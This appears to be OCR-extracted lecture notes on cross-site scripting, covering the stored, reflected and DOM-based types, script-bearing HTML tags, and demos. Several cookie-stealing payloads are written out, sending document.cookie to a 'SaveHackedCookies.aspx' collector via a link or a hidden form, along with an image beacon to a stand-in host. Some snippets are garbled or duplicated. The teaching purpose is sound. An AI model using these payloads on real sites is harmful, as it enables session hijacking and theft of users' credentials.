Cross-Site Scripting (XSS)

What Is XSS?

  • Cross-site scripting (XSS) is a type of web application vulnerability that
    • enables the attackers to inject client-side script into web pages viewed by other users, and
    • upon the injected scripted is executed, to bypass the same origin policy.
      (Note: The same-origin policy cannot stop you from sending a request.)
  • XSS exploits web applications (e.g., blog, messageboard, etc.) with dynamic content that is produced from user inputs not validated or encoded
  • By injecting malicious code, XSS attacks turn the web applications from the data context into code context.
  • XSS isn't a direct attack against the Web application but rather an attack on the Web applications users.
  • If anattacker can place script anywhere in a vulnerable web application, the browser will believe that the script came from the vulnerable web application rather than the attacker. Thus, the injected script will run in the domain of the vulnerable web application and be able to do the following:
    • Have access to read cookies used in that vulnerable web application
    • Be able to see the content of pages served by the vulnerable web application and send it to the attacker
    • Change the way the vulnerable web application looks
    • Make calls back to the server who hosts the vulnerable web application
  • What to steal: session cookies, basic authorization credentials, source IP addresses, SSLcertificates, Windows domain credentials, etc.
  • There are three known types of XSS:
    • Stored (server-side):
      • Maliciousscript is stored in a server resource such as a database.
      •By visiting the website, the script is executed.
    • Reflected (server-side):
      • Malicious script is transmitted to the victim via an email or similar mechanism.
      • By clicking on the link, the script is executed.
    • DOM-based (client-side): Attacks that modify the victims DOM directly and don't require data in the HTTP response.
  • Example incidents: Paypal, Youtube.

DOM Exploited through JavaSrcipt

  • Get/alter page contentdocument.getElementById('myAnchor').innerHTML
  • Get querystring:
  • Get cookies: document.cookie
  • Read location: document.location
  • Read/Write location: window.location.href
  • Extend page content:

HTML Exploited through XSS• <a> tag: <a onclick="javascript" (requires a click)
  • <div> tag: <div style=background:url(javascript)>
  • <form> tag: <form action="logon.aspx" method="post" onsubmit="javascript"></form>
  • <iframe> tag: <iframe src="javascript">
  • <object>: <object><param name="src" value="javascript"> </param></object>
  • <img> tag: <img src="javascript"> (1x1 px to be invisible or use Javascript to create an image object)
         var image1 = new Image();
         image1.src = "http://host/?command";
  • <script> tag: <script src="javascript">
  • <embed> tag: <embed src="javascript">

URL-Shortening Service

URL-shortening service like, TinyURL, or can provide a really helpful service for social network users, but its also a really useful service for XSS attackers to disguise the poisoned links.  For example, a long URL such as can be shortento a redirect.

Reflected (First-Order) XSS

  • A reflected HTML injection attack a web application which accepts user input in an HTTP request and responds with the identical user input within the body of the HTTP response.
  • This type of XSS is "reflected" because it involves crafting a request containing embedded JavaScript which is reflected back to any user who makes the request.
  • The attack payload is delivered and executed via a single request and response. For this reason, it is also sometimes referred to as first-order XSS.
  • Create the following link to send a victim's cookies to the hacker's website Demo 1:
    <a href="#" onclick="document.location='http://localhost/XSSHackCookies/SaveHackedCookies.aspx?cookiesvalues=' +escape(document.cookie);" target=_blank>Click me</a>

    Aspect Security RXSS
    (source: Aspect Security)

Stored (Persistent) XSS

  • The XSS script is posted in web applications such as online message board, blog, and so on, and then "stored" by the server in the database permanently.
  • Since the XSS script is rendered automatically, individual victims are randomly targeted.
  • In social networking sites, the script would be further designed to self-propagate across accounts, creating a type of a client-side worm.
  • Steps in XSS attack Demo2:

    1. Search a targeted web site simply places the user input back into the response.
    2. Testing the page to see if it is possible to inject HTML and Javascript into the web page.
    3. Post injected scripts (GET)
      <a href="#" onclick="document.location='http://localhost/XSSHackCookies/SaveHackedCookies.aspx?cookiesvalues=' +escape(document.cookie);" target=_blank>Click me</a>
      HTML encoded:
      <a href="#" onclick="document.location='http://localhost/XSSHackCookies/SaveHackedCookies.aspx?cookiesvalues=' +escape(document.cookie);" target=_blank>Click me</a>
    4. Post injected scripts (POST)
      <form name='hackerform' method='POST' action='http://localhost/XSSHackCookies/savehackedcookies.aspx'>
         document.write('<input type=hidden name=cookiesvalues value=');
      HTML encoded:
      <form name='hackerform' method='POST' action='http://localhost/XSSHackCookies/savehackedcookies.aspx'>
         document.write('<input type=hidden name=cookiesvalues value=');

DOM-based XSS

  • Also called DOMXSS, local XSS or Type-0 XSS.
  • The attack payload is executed as a result of modifying the HTML Document Object Model (DOM) in the victim's browser used by the original client-side script of the page.
  • The DOM provides a structural representation of the HTML and XML document and enable the document's content and visual presentation to be modified by using a scripting language such as JavaScript.
  • The original DOMXSS paper by Amit Klein in 2005.
  • Webpage defacement: an attack on a website that changes the visual appearance on a webpage via DOM modification.
    • Payload: document.images[0].src
    • Webpage defacement is different from website defacement which is using the web server as the attack path.
  • Demo 3

Website Defacement• An attack on a website that changes the visual appearance of thesite or a webpage.
  • The attack is typically the work of system crackers, who break into a web server and replace the hosted website withtheir own.
  • The mostcommon attack path is using SQL injections to gain administrative accessto replace webpages.